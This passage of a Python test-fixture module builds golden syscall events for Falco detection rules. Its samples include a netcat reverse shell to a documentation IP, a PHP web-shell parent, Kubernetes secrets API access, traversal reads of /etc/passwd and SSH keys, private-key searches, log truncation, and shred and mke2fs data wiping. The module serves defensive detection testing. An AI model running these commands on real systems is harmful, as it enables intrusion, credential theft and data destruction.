"""Golden syscall events for Falco's stable rules (falco_rules.yaml).

Each :class:`GoldenCase` names one rule and holds events that must fire it and near misses that
must not. Events are flat dicts keyed by Falco field names, filled the way libsinsp would fill them
for the exit event (``evt.dir`` ``<``) of the syscall. Fields a rule only reads through a
derivation (fd.directory from fd.name, fd.lport from the socket tuple, proc.aname[N] from the
ancestor list, evt.is_open_read from the open flags, fd.ip/fd.net/fd.snet from the tuple) are left
for the engine to derive, as a recording from the sensor would.

Every variant lists the *other* rules of the file the same event fires (``also``): the tests assert
the exact set, so an event that accidentally fires more (or fewer) rules than Falco would fails.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Any

BASE_TIME_NS = 1_732_300_000_000_000_000
_num = itertools.count(41_000)

CID = "3ad7b26ded6d"
#: a proc.tty value of a pseudo-terminal (major 136, minor 0)
PTS_TTY = 34816


@dataclass(frozen=True)
class Variant:
    """One event and why it should (or should not) fire the rule."""

    why: str
    event: dict[str, Any]
    #: other rules of falco_rules.yaml this same event fires
    also: frozenset[str] = frozenset()


@dataclass(frozen=True)
class GoldenCase:
    rule: str
    fires: list[Variant]
    near_misses: list[Variant]
    #: substrings the alert output of the first firing event must contain
    output_has: list[str] = field(default_factory=list)


# ---------------------------------------------------------------------------------------------
# Event builders
# ---------------------------------------------------------------------------------------------

Parent = tuple[str, str, str]  # (name, exepath, cmdline)

SSHD = ("sshd", "/usr/sbin/sshd", "sshd: alice [priv]")
SYSTEMD = ("systemd", "/usr/lib/systemd/systemd", "systemd --system --deserialize 31")
BASH = ("bash", "/usr/bin/bash", "bash")
SHIM = ("containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io")

#: an interactive login shell on the host: bash <- sshd <- sshd <- systemd
HOST_SHELL_TREE: list[Parent] = [BASH, ("sshd", "/usr/sbin/sshd", "sshd: alice@pts/0"), SSHD, SYSTEMD]


def host() -> dict[str, Any]:
    return {"container.id": "host", "container.name": "host"}


def container(
    repo: str = "docker.io/library/nginx",
    tag: str = "1.27",
    *,
    privileged: bool = False,
    ns: str | None = "default",
    pod: str | None = "web-7d4b9c6f5-x2x9q",
    cid: str = CID,
) -> dict[str, Any]:
    d: dict[str, Any] = {
        "container.id": cid,
        "container.name": f"k8s_{pod or 'app'}",
        "container.image.repository": repo,
        "container.image.tag": tag,
        "container.image": f"{repo}:{tag}",
        "container.privileged": privileged,
    }
    if ns is not None:
        d["k8s.ns.name"] = ns
    if pod is not None:
        d["k8s.pod.name"] = pod
    return d


def proc(
    cmdline: str,
    exepath: str,
    parents: list[Parent],
    *,
    exe: str | None = None,
    name: str | None = None,
    user: tuple[str, int] = ("root", 0),
    loginuid: int = -1,
    tty: int = 0,
    cwd: str = "/",
    pid: int = 24_310,
    duration_ns: int = 40_000_000,
) -> dict[str, Any]:
    """The proc.*, user.* and group.* fields of a process; parents are listed parent first.

    `cmdline` is the argv as run (argv[0] first); proc.exe is argv[0] and proc.name its basename
    unless `name` (the comm, e.g. a process that rewrote its title) is given."""
    argv0, _, args = cmdline.partition(" ")
    if name is None:
        name = argv0.rsplit("/", 1)[-1]
    elif exe is None:
        exe = exepath
    d: dict[str, Any] = {
        "proc.name": name,
        "proc.exe": exe if exe is not None else argv0,
        "proc.exepath": exepath,
        # libsinsp's proc.cmdline is proc.name followed by the arguments
        "proc.cmdline": f"{name} {args}".rstrip(),
        "proc.args": args,
        "proc.pid": pid,
        "proc.vpid": pid,
        "proc.tty": tty,
        "proc.cwd": cwd,
        "proc.duration": duration_ns,
        "proc.sname": "bash",
        "user.name": user[0],
        "user.uid": user[1],
        "user.loginuid": loginuid,
        "group.gid": user[1],
        "group.name": user[0],
    }
    if parents:
        pname, pexepath, pcmdline = parents[0]
        d.update(
            {
                "proc.pname": pname,
                "proc.pexe": pexepath,
                "proc.pexepath": pexepath,
                "proc.pcmdline": pcmdline,
                "proc.ppid": pid - 7,
                "proc.aname": [p[0] for p in parents],
                "proc.aexepath": [p[1] for p in parents],
            }
        )
    return d


def evt(evt_type: str, *parts: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """An exit event of `evt_type`: the header, then every dict in `parts`, then `fields`
    (keys with dots are written with '__' for '.': evt__arg__flags=... -> evt.arg.flags)."""
    n = next(_num)
    d: dict[str, Any] = {
        "evt.num": n,
        "evt.time": BASE_TIME_NS + n * 1000,
        "evt.type": evt_type,
        "evt.dir": "<",
        "evt.cpu": 2,
        "evt.hostname": "node-1",
    }
    for p in parts:
        d.update(p)
    for k, v in fields.items():
        d[k.replace("__", ".")] = v
    return d


def opened(path: str, flags: str, fd: int = 5, *, raw: str | None = None) -> dict[str, Any]:
    """The fd.* and result fields of a successful openat(2)."""
    return {
        "fd.name": path,
        "fd.nameraw": raw if raw is not None else path,
        "fd.num": fd,
        "fd.typechar": "f",
        "fd.type": "file",
        "evt.rawres": fd,
        "evt.res": "SUCCESS",
        "evt.arg.flags": flags,
        "evt.arg.name": raw if raw is not None else path,
        "evt.arg.mode": "0",
    }


def open_failed(path: str, flags: str, errno: str = "ENOENT", code: int = -2, *, raw: str) -> dict[str, Any]:
    return {
        "fd.name": path,
        "fd.nameraw": raw,
        "fd.num": -1,
        "fd.typechar": "f",
        "fd.type": "file",
        "evt.rawres": code,
        "evt.res": errno,
        "evt.arg.flags": flags,
        "evt.arg.name": raw,
    }


def execd(flags: str = "EXE_WRITABLE") -> dict[str, Any]:
    return {"evt.rawres": 0, "evt.res": "SUCCESS", "evt.arg.flags": flags}


def tcp(tuple_: str, *, res: int = 0, v6: bool = False, sip_name: str | None = None) -> dict[str, Any]:
    """The fd.* and result fields of a connected TCP socket, fd.name 'cip:cport->sip:sport'."""
    d: dict[str, Any] = {
        "fd.name": tuple_,
        "fd.typechar": "6" if v6 else "4",
        "fd.type": "ipv6" if v6 else "ipv4",
        "fd.l4proto": "tcp",
        "fd.num": 3,
        "evt.rawres": res,
        "evt.res": "SUCCESS" if res == 0 else "EINPROGRESS",
    }
    if sip_name is not None:
        d["fd.sip.name"] = sip_name
    return d


CAPS_DEFAULT = (
    "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP "
    "CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP"
)
CAPS_PRIVILEGED = CAPS_DEFAULT + " CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_PTRACE CAP_SYS_ADMIN CAP_NET_ADMIN"
CAPS_SYS_ADMIN = CAPS_DEFAULT + " CAP_SYS_ADMIN"


def replace(event: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """A copy of `event` with fields changed ('__' for '.'); a value of None removes the field."""
    d = dict(event)
    d["evt.num"] = next(_num)
    d["evt.time"] = BASE_TIME_NS + d["evt.num"] * 1000
    for k, v in fields.items():
        key = k.replace("__", ".")
        if v is None:
            d.pop(key, None)
        else:
            d[key] = v
    return d


def on_host(event: dict[str, Any]) -> dict[str, Any]:
    """The same event on the host: no container or Kubernetes fields."""
    d = {k: v for k, v in event.items() if not k.startswith(("container.", "k8s."))}
    d.update(host())
    d["evt.num"] = next(_num)
    d["evt.time"] = BASE_TIME_NS + d["evt.num"] * 1000
    return d


# ---------------------------------------------------------------------------------------------
# Rule names (as in falco_rules.yaml)
# ---------------------------------------------------------------------------------------------

DIR_TRAVERSAL = "Directory traversal monitored file read"
READ_TRUSTED = "Read sensitive file trusted after startup"
READ_UNTRUSTED = "Read sensitive file untrusted"
RUN_SHELL = "Run shell untrusted"
SYSTEM_USER = "System user interactive"
TERMINAL_SHELL = "Terminal shell in container"
K8S_API = "Contact K8S API Server From Container"
NETCAT = "Netcat Remote Code Execution in Container"
SEARCH_KEYS = "Search Private Keys or Passwords"
CLEAR_LOG = "Clear Log Activities"
REMOVE_DATA = "Remove Bulk Data from Disk"
SYMLINK = "Create Symlink Over Sensitive Files"
HARDLINK = "Create Hardlink Over Sensitive Files"
PACKET_SOCKET = "Packet socket created in container"
REDIRECT = "Redirect STDOUT/STDIN to Network Connection in Container"
KMOD = "Linux Kernel Module Injection Detected"
DEBUGFS = "Debugfs Launched in Privileged Container"
RELEASE_AGENT = "Detect release_agent File Container Escapes"
PTRACE_ATTACH = "PTRACE attached to process"
PTRACE_ANTIDEBUG = "PTRACE anti-debug attempt"
AWS_CREDS = "Find AWS Credentials"
DEV_SHM = "Execution from /dev/shm"
DROP_EXEC = "Drop and execute new binary in container"
SSH_PORT = "Disallowed SSH Connection Non Standard Port"
MEMFD = "Fileless execution via memfd_create"


def _s(*names: str) -> frozenset[str]:
    return frozenset(names)


# ---------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------

PHP_FPM: list[Parent] = [
    ("php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"),
    ("containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io"),
]


def _dir_traversal() -> GoldenCase:
    php = proc(
        "php-fpm: pool www",
        "/usr/sbin/php-fpm8.2",
        PHP_FPM,
        name="php-fpm8.2",
        user=("www-data", 33),
        cwd="/var/www/html/",
    )
    raw = "/var/www/html/../../../etc/passwd"
    fire = evt(
        "openat",
        container("docker.io/library/php", "8.2-fpm"),
        php,
        opened("/etc/passwd", "O_RDONLY", raw=raw),
    )
    failed = evt(
        "openat",
        container("docker.io/library/php", "8.2-fpm"),
        php,
        open_failed(
            "/root/.ssh/id_rsa", "O_RDONLY", "EACCES", -13, raw="/var/www/html/../../../root/.ssh/id_rsa"
        ),
    )
    # the same traversal typed in a shell: `cat ../../../etc/passwd` has a shell for a parent
    by_shell = evt(
        "openat",
        container("docker.io/library/php", "8.2-fpm"),
        proc("cat ../../../etc/passwd", "/usr/bin/cat", [BASH, *PHP_FPM], cwd="/var/www/html/"),
        opened("/etc/passwd", "O_RDONLY", raw="../../../etc/passwd"),
    )
    return GoldenCase(
        DIR_TRAVERSAL,
        fires=[
            Variant("php-fpm reads /etc/passwd through ../../../", fire),
            Variant("failed open of /root/.ssh/id_rsa through ../ (open_file_failed branch)", failed),
            Variant(
                "failed with ENOENT, fd.num derived from the result (-1, as libsinsp gives it)",
                replace(failed, fd__num=None, evt__rawres=-2, evt__res="ENOENT"),
            ),
            Variant(
                "the parent is unknown (not proc.pname in (...) is true when proc.pname is missing)",
                replace(
                    fire,
                    proc__pname=None,
                    proc__pexe=None,
                    proc__pexepath=None,
                    proc__pcmdline=None,
                    proc__aname=None,
                ),
            ),
        ],
        near_misses=[
            Variant("same traversal by cat run from a shell (pname in shell_binaries)", by_shell),
            Variant(
                "same file by absolute path, no traversal",
                replace(fire, fd__nameraw="/etc/passwd", evt__arg__name="/etc/passwd"),
            ),
            Variant(
                "one ../ only (glob '*../*../*' needs two)",
                replace(fire, fd__nameraw="/var/www/../etc/passwd", evt__arg__name="/var/www/../etc/passwd"),
            ),
            Variant(
                "traversal to a file outside /etc and ~/.ssh",
                replace(
                    fire,
                    fd__name="/var/lib/php/sessions/sess_1",
                    fd__nameraw="/var/www/html/../../lib/php/sessions/sess_1",
                ),
            ),
        ],
        output_has=[
            "Read monitored file via directory traversal",
            "file=/etc/passwd",
            f"fileraw={raw}",
            "gparent=containerd-shim",
            "evt_type=openat",
            "user=www-data",
            "user_uid=33",
            "process=php-fpm8.2",
            "proc_exepath=/usr/sbin/php-fpm8.2",
            "parent=php-fpm8.2",
            "command=php-fpm8.2 pool www",
        ],
    )


NGINX_MASTER: list[Parent] = [
    ("nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon off;"),
    SHIM,
]


def _nginx_worker(duration_ns: int) -> dict[str, Any]:
    return proc(
        "nginx: worker process",
        "/usr/sbin/nginx",
        NGINX_MASTER,
        name="nginx",
        user=("www-data", 33),
        duration_ns=duration_ns,
    )


def _read_trusted() -> GoldenCase:
    hour = 3_600_000_000_000
    fire = evt("openat", container(), _nginx_worker(hour), opened("/etc/shadow", "O_RDONLY|O_CLOEXEC", 12))
    return GoldenCase(
        READ_TRUSTED,
        fires=[
            Variant(
                "nginx worker, up for an hour, opens /etc/shadow for reading",
                fire,
                also=_s(READ_UNTRUSTED),
            ),
            Variant(
                "postgres on the host reads a file in /etc/pam.d after startup",
                evt(
                    "openat",
                    host(),
                    proc(
                        "postgres -D /var/lib/postgresql/16/main",
                        "/usr/lib/postgresql/16/bin/postgres",
                        [SYSTEMD],
                        user=("postgres", 114),
                        duration_ns=86_400_000_000_000,
                    ),
                    opened("/etc/pam.d/common-auth", "O_RDONLY"),
                ),
                also=_s(READ_UNTRUSTED),
            ),
        ],
        near_misses=[
            Variant(
                "same read within 5 s of the process start (proc_is_new)",
                replace(fire, proc__duration=2_000_000_000),
                also=_s(READ_UNTRUSTED),
            ),
            Variant(
                "sshd reading /etc/shadow after startup",
                replace(
                    fire,
                    proc__name="sshd",
                    proc__exepath="/usr/sbin/sshd",
                    proc__exe="/usr/sbin/sshd",
                    proc__cmdline="sshd -D",
                ),
            ),
            Variant(
                "nginx opens /etc/shadow for writing only",
                replace(fire, evt__arg__flags="O_WRONLY|O_CLOEXEC"),
            ),
            Variant(
                "nginx reads /etc/passwd (not a sensitive file)",
                replace(
                    fire, fd__name="/etc/passwd", fd__nameraw="/etc/passwd", evt__arg__name="/etc/passwd"
                ),
            ),
        ],
        output_has=[
            "Sensitive file opened for reading by trusted program after startup",
            "file=/etc/shadow",
            "pcmdline=nginx: master process /usr/sbin/nginx -g daemon off;",
            "gparent=containerd-shim",
            "process=nginx",
            "parent=nginx",
            "user=www-data",
        ],
    )


def _read_untrusted() -> GoldenCase:
    shell = proc(
        "cat /etc/shadow", "/usr/bin/cat", HOST_SHELL_TREE, user=("alice", 1000), loginuid=1000, tty=PTS_TTY
    )
    fire = evt("openat", host(), shell, opened("/etc/shadow", "O_RDONLY|O_CLOEXEC", 3))
    in_ctr = evt(
        "openat",
        container("docker.io/library/alpine", "3.20"),
        proc("vi /etc/sudoers.d/90-admin", "/bin/busybox", [("sh", "/bin/busybox", "/bin/sh"), SHIM]),
        opened("/etc/sudoers.d/90-admin", "O_RDWR|O_CREAT"),
    )
    return GoldenCase(
        READ_UNTRUSTED,
        fires=[
            Variant("cat /etc/shadow by a logged-in user", fire),
            Variant("vi opens a file in /etc/sudoers.d read-write in a container", in_ctr),
        ],
        near_misses=[
            Variant(
                "the same read by passwd (user_mgmt_binaries)",
                replace(
                    fire,
                    proc__name="passwd",
                    proc__exepath="/usr/bin/passwd",
                    proc__exe="passwd",
                    proc__cmdline="passwd",
                    proc__args="",
                ),
            ),
            Variant(
                "the same read of /etc/passwd (not sensitive)",
                replace(
                    fire, fd__name="/etc/passwd", fd__nameraw="/etc/passwd", evt__arg__name="/etc/passwd"
                ),
            ),
            Variant("/etc/shadow opened write-only", replace(fire, evt__arg__flags="O_WRONLY|O_TRUNC")),
            Variant("process name unknown (<NA>)", replace(fire, proc__name="<NA>")),
            Variant(
                "the open failed (fd.num=-1)", replace(fire, fd__num=-1, evt__rawres=-13, evt__res="EACCES")
            ),
            Variant(
                "awk run by linux-bench reads /etc/shadow (linux_bench_reading_etc_shadow)",
                replace(
                    fire,
                    proc__name="awk",
                    proc__exepath="/usr/bin/awk",
                    proc__exe="awk",
                    proc__cmdline="awk -F: {print $2} /etc/shadow",
                    proc__args="-F: {print $2} /etc/shadow",
                    proc__pname="sh",
                    proc__aname=["sh", "linux-bench", "bash"],
                ),
            ),
        ],
        output_has=[
            "Sensitive file opened for reading by non-trusted program",
            "file=/etc/shadow",
            "gparent=sshd",
            "ggparent=sshd",
            "gggparent=systemd",
            "evt_type=openat",
            "user=alice",
            "user_uid=1000",
            "user_loginuid=1000",
            "process=cat",
            "proc_exepath=/usr/bin/cat",
            "parent=bash",
            "command=cat /etc/shadow",
            f"terminal={PTS_TTY}",
        ],
    )


APACHE: list[Parent] = [
    ("apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start"),
    ("apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start"),
    SHIM,
]


def _run_shell() -> GoldenCase:
    sh = proc("sh -c id", "/usr/bin/dash", APACHE, user=("www-data", 33))
    fire = evt("execve", container("docker.io/library/httpd", "2.4"), sh, execd())
    grandchild = evt(
        "execve",
        container("docker.io/library/httpd", "2.4"),
        proc(
            "bash -i",
            "/usr/bin/bash",
            [("php", "/usr/bin/php8.2", "php -r system($_GET[c]);"), *APACHE],
            user=("www-data", 33),
        ),
        execd(),
    )
    return GoldenCase(
        RUN_SHELL,
        fires=[
            Variant("apache2 runs sh -c id", fire),
            Variant("php below apache2 runs bash (protected ancestor, not parent)", grandchild),
        ],
        near_misses=[
            Variant(
                "apache2 runs a known command line (sh -c whoami)",
                replace(fire, proc__cmdline="sh -c whoami", proc__args="-c whoami"),
            ),
            Variant(
                "sh run from a shell in tmux (no protected ancestor)",
                replace(
                    fire,
                    proc__pname="bash",
                    proc__aname=["bash", "tmux: server", "systemd"],
                    proc__pcmdline="bash",
                ),
            ),
            Variant(
                "apache2 runs id directly, no shell",
                replace(
                    fire,
                    proc__name="id",
                    proc__exepath="/usr/bin/id",
                    proc__exe="id",
                    proc__cmdline="id",
                    proc__args="",
                ),
            ),
            Variant(
                "no parent or ancestor known (proc.pname exists is false)",
                replace(
                    fire,
                    proc__pname=None,
                    proc__pexe=None,
                    proc__pexepath=None,
                    proc__pcmdline=None,
                    proc__aname=None,
                    proc__aexepath=None,
                    proc__ppid=None,
                ),
            ),
            Variant(
                "the shell's parent is logrotate (allowed parent)",
                replace(fire, proc__pname="logrotate", proc__aname=["logrotate", *[p[0] for p in APACHE]]),
            ),
        ],
        output_has=[
            "Shell spawned by untrusted binary",
            "parent_exe=/usr/sbin/apache2",
            "parent_exepath=/usr/sbin/apache2",
            "pcmdline=/usr/sbin/apache2 -k start",
            "gparent=apache2",
            "ggparent=containerd-shim",
            "process=sh",
            "proc_exepath=/usr/bin/dash",
            "parent=apache2",
            "command=sh -c id",
            "exe_flags=EXE_WRITABLE",
        ],
    )


def _system_user() -> GoldenCase:
    fire = evt(
        "execve",
        host(),
        proc("id -a", "/usr/bin/id", HOST_SHELL_TREE, user=("daemon", 1), loginuid=1, tty=PTS_TTY),
        execd(),
    )
    return GoldenCase(
        SYSTEM_USER,
        fires=[
            Variant("user daemon runs id in an ssh session", fire),
            Variant(
                "user nobody runs curl three levels below sshd (proc.aname matches any ancestor)",
                evt(
                    "execve",
                    host(),
                    proc(
                        "curl -s http://198.51.100.7/x",
                        "/usr/bin/curl",
                        [("sh", "/usr/bin/dash", "sh -c curl -s http://198.51.100.7/x"), *HOST_SHELL_TREE],
                        user=("nobody", 65534),
                    ),
                    execd(),
                ),
            ),
        ],
        near_misses=[
            Variant(
                "an ordinary user runs id in an ssh session",
                replace(fire, user__name="alice", user__uid=1000),
            ),
            Variant(
                "user daemon runs id from cron (no sshd ancestor)",
                replace(fire, proc__pname="cron", proc__aname=["cron", "systemd"], proc__tty=0),
            ),
            Variant(
                "the same process opens a file (not an exec)",
                replace(
                    fire,
                    evt__type="openat",
                    fd__name="/etc/ld.so.cache",
                    evt__arg__flags="O_RDONLY|O_CLOEXEC",
                    fd__num=3,
                ),
            ),
        ],
        output_has=[
            "System user ran an interactive command",
            "evt_type=execve",
            "user=daemon",
            "user_uid=1",
            "process=id",
            "parent=bash",
            "command=id -a",
            f"terminal={PTS_TTY}",
        ],
    )


def _terminal_shell() -> GoldenCase:
    ctr = container("docker.io/library/ubuntu", "24.04")
    bash = proc("bash", "/usr/bin/bash", [("runc:[1:CHILD]", "/usr/bin/runc", "runc init")], tty=PTS_TTY)
    fire = evt("execve", ctr, bash, execd())
    parent_keys = (
        "proc.pname",
        "proc.pexe",
        "proc.pexepath",
        "proc.pcmdline",
        "proc.ppid",
        "proc.aname",
        "proc.aexepath",
    )
    orphan = {k: v for k, v in fire.items() if k not in parent_keys}
    return GoldenCase(
        TERMINAL_SHELL,
        fires=[
            Variant("kubectl exec -it: bash with a tty, parent runc:[1:CHILD]", fire),
            Variant("same, the parent already exited (no proc.pname)", replace(orphan)),
        ],
        near_misses=[
            Variant("kubectl exec without -t (no tty)", replace(fire, proc__tty=0)),
            Variant(
                "proc.tty unknown (proc.tty != 0 is false on a missing field)", replace(fire, proc__tty=None)
            ),
            Variant("the same shell on the host", on_host(fire)),
            Variant(
                "a shell started by another shell inside the container",
                replace(
                    fire,
                    proc__pname="bash",
                    proc__aname=["bash", "runc:[1:CHILD]"],
                    proc__pexe="/usr/bin/bash",
                    proc__pexepath="/usr/bin/bash",
                ),
            ),
        ],
        output_has=[
            "A shell was spawned in a container with an attached terminal",
            "evt_type=execve",
            "user=root",
            "user_uid=0",
            "process=bash",
            "proc_exepath=/usr/bin/bash",
            "parent=runc:[1:CHILD]",
            "command=bash",
            f"terminal={PTS_TTY}",
        ],
    )


def _k8s_api() -> GoldenCase:
    fire = evt(
        "connect",
        container("docker.io/curlimages/curl", "8.10.1", pod="debug"),
        proc(
            "curl -sk https://kubernetes.default.svc.cluster.local/api/v1/secrets",
            "/usr/bin/curl",
            [("sh", "/bin/busybox", "/bin/sh"), SHIM],
            user=("curl_user", 100),
        ),
        tcp("10.244.1.17:43210->10.96.0.1:443", sip_name="kubernetes.default.svc.cluster.local"),
    )
    return GoldenCase(
        K8S_API,
        fires=[
            Variant("curl in a pod connects to kubernetes.default.svc", fire),
            Variant(
                "over IPv6",
                replace(
                    fire,
                    fd__name="[fd00:10:244::11]:43210->[fd00:10:96::1]:443",
                    fd__typechar="6",
                    fd__type="ipv6",
                ),
            ),
        ],
        near_misses=[
            Variant("the pod runs in kube-system", replace(fire, k8s__ns__name="kube-system")),
            Variant(
                "the image is an allowed k8s container (prom/prometheus)",
                replace(
                    fire,
                    container__image__repository="prom/prometheus",
                    container__image="prom/prometheus:v2.53.0",
                ),
            ),
            Variant("the same connection from the host", on_host(fire)),
            Variant(
                "a connection to another service", replace(fire, fd__sip__name="db.default.svc.cluster.local")
            ),
            Variant(
                "the server name is not resolved (fd.sip.name missing)", replace(fire, fd__sip__name=None)
            ),
            Variant(
                "a unix socket connect",
                replace(fire, fd__typechar="u", fd__type="unix", fd__name="/run/k8s.sock"),
            ),
        ],
        output_has=[
            "Unexpected connection to K8s API Server from container",
            "connection=10.244.1.17:43210->10.96.0.1:443",
            "lport=43210",
            "rport=443",
            "fd_type=ipv4",
            "fd_proto=tcp",
            "evt_type=connect",
            "process=curl",
            "parent=sh",
        ],
    )


def _netcat() -> GoldenCase:
    ctr = container("docker.io/library/busybox", "1.36")
    fire = evt(
        "execve",
        ctr,
        proc("nc -e /bin/sh 198.51.100.7 4444", "/bin/busybox", [("sh", "/bin/busybox", "sh"), SHIM]),
        execd(),
    )
    ncat = evt(
        "execve",
        ctr,
        proc(
            "ncat --sh-exec /bin/bash 198.51.100.7 4444",
            "/usr/bin/ncat",
            [("sh", "/bin/busybox", "sh"), SHIM],
        ),
        execd(),
    )
    return GoldenCase(
        NETCAT,
        fires=[
            Variant("nc -e /bin/sh in a container", fire),
            Variant("ncat --sh-exec in a container", ncat),
        ],
        near_misses=[
            Variant(
                "nc used as a port scanner",
                replace(fire, proc__cmdline="nc -zv 198.51.100.7 4444", proc__args="-zv 198.51.100.7 4444"),
            ),
            Variant("the same nc -e on the host", on_host(fire)),
            Variant(
                "ncat as a plain client",
                replace(ncat, proc__cmdline="ncat 198.51.100.7 4444", proc__args="198.51.100.7 4444"),
            ),
        ],
        output_has=[
            "Netcat runs inside container that allows remote code execution",
            "evt_type=execve",
            "process=nc",
            "proc_exepath=/bin/busybox",
            "parent=sh",
            "command=nc -e /bin/sh 198.51.100.7 4444",
        ],
    )


def _search_keys() -> GoldenCase:
    grep = evt(
        "execve",
        host(),
        proc(
            "grep -r BEGIN RSA PRIVATE /home",
            "/usr/bin/grep",
            HOST_SHELL_TREE,
            user=("alice", 1000),
            tty=PTS_TTY,
        ),
        execd(),
    )
    find = evt(
        "execve",
        container("docker.io/library/debian", "12"),
        proc("find / -name id_ed25519", "/usr/bin/find", [("sh", "/usr/bin/dash", "sh"), SHIM]),
        execd(),
    )
    return GoldenCase(
        SEARCH_KEYS,
        fires=[
            Variant("grep -r for BEGIN RSA PRIVATE", grep),
            Variant(
                "egrep, lower case (icontains)",
                replace(
                    grep,
                    proc__name="egrep",
                    proc__cmdline="egrep -ri begin openssh private /",
                    proc__args="-ri begin openssh private /",
                ),
            ),
            Variant("find / -name id_ed25519 in a container", find),
        ],
        near_misses=[
            Variant(
                "grep for a public key",
                replace(
                    grep,
                    proc__cmdline="grep -r BEGIN PUBLIC KEY /home",
                    proc__args="-r BEGIN PUBLIC KEY /home",
                ),
            ),
            Variant(
                "find for authorized_keys",
                replace(
                    find, proc__cmdline="find / -name authorized_keys", proc__args="/ -name authorized_keys"
                ),
            ),
            Variant(
                "the words are in the parent's command line, not grep's",
                replace(
                    grep,
                    proc__cmdline="grep -c x",
                    proc__args="-c x",
                    proc__pcmdline="bash -c grep BEGIN RSA PRIVATE",
                ),
            ),
        ],
        output_has=[
            "Grep private keys or passwords activities found",
            "evt_type=execve",
            "user=alice",
            "process=grep",
            "command=grep -r BEGIN RSA PRIVATE /home",
        ],
    )


def _clear_log() -> GoldenCase:
    fire = evt(
        "openat",
        host(),
        proc("bash", "/usr/bin/bash", HOST_SHELL_TREE[1:], tty=PTS_TTY),
        opened("/var/log/auth.log", "O_WRONLY|O_CREAT|O_TRUNC", 3),
    )
    return GoldenCase(
        CLEAR_LOG,
        fires=[
            Variant(": > /var/log/auth.log from a root shell", fire),
            Variant(
                "a file named syslog outside /var/log truncated in a container",
                evt(
                    "openat",
                    container("docker.io/library/alpine", "3.20"),
                    proc(
                        "truncate -s 0 /data/logs/syslog",
                        "/bin/busybox",
                        [("sh", "/bin/busybox", "sh"), SHIM],
                    ),
                    opened("/data/logs/syslog", "O_WRONLY|O_CREAT|O_TRUNC", 3),
                ),
            ),
        ],
        near_misses=[
            Variant(
                "appending to /var/log/auth.log", replace(fire, evt__arg__flags="O_WRONLY|O_CREAT|O_APPEND")
            ),
            Variant(
                "truncating /var/log/nginx/access.log (directory and name not in the lists)",
                replace(fire, fd__name="/var/log/nginx/access.log", fd__nameraw="/var/log/nginx/access.log"),
            ),
            Variant(
                "the same truncate in a trusted logging image",
                replace(
                    fire,
                    container__id=CID,
                    container__name="fluentd",
                    container__image__repository="docker.io/fluent/fluentd-kubernetes-daemonset",
                ),
            ),
        ],
        output_has=[
            "Log files were tampered",
            "file=/var/log/auth.log",
            "evt_type=openat",
            "user=root",
            "process=bash",
            "parent=sshd",
        ],
    )


def _remove_data() -> GoldenCase:
    fire = evt(
        "execve",
        host(),
        proc("shred -u -n 3 /var/lib/mysql/ibdata1", "/usr/bin/shred", HOST_SHELL_TREE, tty=PTS_TTY),
        execd(),
    )
    return GoldenCase(
        REMOVE_DATA,
        fires=[
            Variant("shred of a database file", fire),
            Variant(
                "mke2fs in a container",
                evt(
                    "execve",
                    container("docker.io/library/debian", "12", privileged=True),
                    proc("mke2fs -F /dev/sdb1", "/usr/sbin/mke2fs", [("sh", "/usr/bin/dash", "sh"), SHIM]),
                    execd(),
                ),
            ),
        ],
        near_misses=[
            Variant(
                "rm -rf of the same data",
                replace(
                    fire,
                    proc__name="rm",
                    proc__exepath="/usr/bin/rm",
                    proc__exe="rm",
                    proc__cmdline="rm -rf /var/lib/mysql",
                    proc__args="-rf /var/lib/mysql",
                ),
            ),
            Variant(
                "mkfs.ext4 (its proc.name is not mkfs)",
                replace(
                    fire,
                    proc__name="mkfs.ext4",
                    proc__exepath="/usr/sbin/mkfs.ext4",
                    proc__exe="mkfs.ext4",
                    proc__cmdline="mkfs.ext4 /dev/sdb1",
                    proc__args="/dev/sdb1",
                ),
            ),
        ],
        output_has=[
            "Bulk data has been removed from disk",
            "file=<NA>",
            "evt_type=execve",
            "process=shred",
            "command=shred -u -n 3 /var/lib/mysql/ibdata1",
        ],
    )


def _symlink() -> GoldenCase:
    fire = evt(
        "symlinkat",
        host(),
        proc(
            "ln -s /etc/shadow /tmp/shadow", "/usr/bin/ln", HOST_SHELL_TREE, user=("alice", 1000), tty=PTS_TTY
        ),
        evt__rawres=0,
        evt__res="SUCCESS",
        evt__arg__target="/etc/shadow",
        evt__arg__linkdirfd="-100(AT_FDCWD)",
        evt__arg__linkpath="/tmp/shadow",
    )
    return GoldenCase(
        SYMLINK,
        fires=[
            Variant("ln -s /etc/shadow /tmp/shadow", fire),
            Variant(
                "symlink(2) to /root/ from a container",
                replace(
                    fire,
                    evt__type="symlink",
                    evt__arg__target="/root/",
                    evt__arg__linkpath="/var/www/html/r",
                    proc__cmdline="ln -s /root/ /var/www/html/r",
                    proc__args="-s /root/ /var/www/html/r",
                    **{k.replace(".", "__"): v for k, v in container().items()},
                ),
            ),
        ],
        near_misses=[
            Variant(
                "a symlink to /etc/passwd",
                replace(fire, evt__arg__target="/etc/passwd", evt__arg__linkpath="/tmp/passwd"),
            ),
            Variant("a symlink to /etc/shadow.bak", replace(fire, evt__arg__target="/etc/shadow.bak")),
            Variant(
                "a symlink to a harmless file placed at /etc/shadow",
                replace(fire, evt__arg__target="/tmp/x", evt__arg__linkpath="/etc/shadow"),
            ),
        ],
        output_has=[
            "Symlinks created over sensitive files",
            "target=/etc/shadow",
            "linkpath=/tmp/shadow",
            "evt_type=symlinkat",
            "process=ln",
            "command=ln -s /etc/shadow /tmp/shadow",
        ],
    )


def _hardlink() -> GoldenCase:
    fire = evt(
        "linkat",
        host(),
